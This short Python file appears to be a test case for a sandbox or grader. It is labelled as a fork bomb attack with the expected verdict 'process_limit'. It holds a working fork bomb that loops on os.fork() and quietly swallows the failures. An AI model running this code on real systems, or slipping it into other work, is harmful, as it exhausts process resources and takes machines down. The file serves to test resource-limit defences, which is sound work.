# attack: a fork bomb that hides the refusals
# verdict: process_limit
import os

while True:
    try:
        os.fork()
    except OSError:
        break
